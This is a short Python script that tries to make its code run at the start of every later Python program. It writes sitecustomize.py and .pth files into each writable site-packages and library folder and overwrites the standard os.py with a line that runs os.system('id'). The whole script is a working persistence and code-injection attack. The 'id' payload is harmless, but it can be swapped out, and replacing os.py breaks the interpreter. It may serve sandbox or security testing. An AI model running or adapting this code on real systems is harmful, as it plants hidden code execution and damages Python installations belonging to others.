# To be started by every Python program that comes after.
import site
import sys

from kit import attempt, finish, write

CODE = "import os; os.system('id')\n"
for folder in {*sys.path, *site.getsitepackages(), "/usr/local/lib/python3.11/dist-packages", "/usr/lib/python3.11"}:
    if not folder.startswith("/") or folder.startswith("/work") or folder.endswith(".zip"):
        continue
    attempt(f"{folder}/sitecustomize.py", write, f"{folder}/sitecustomize.py", CODE)
    attempt(f"{folder}/back.pth", write, f"{folder}/back.pth", CODE)
attempt("/usr/lib/python3.11/os.py", write, "/usr/lib/python3.11/os.py", CODE)
finish()
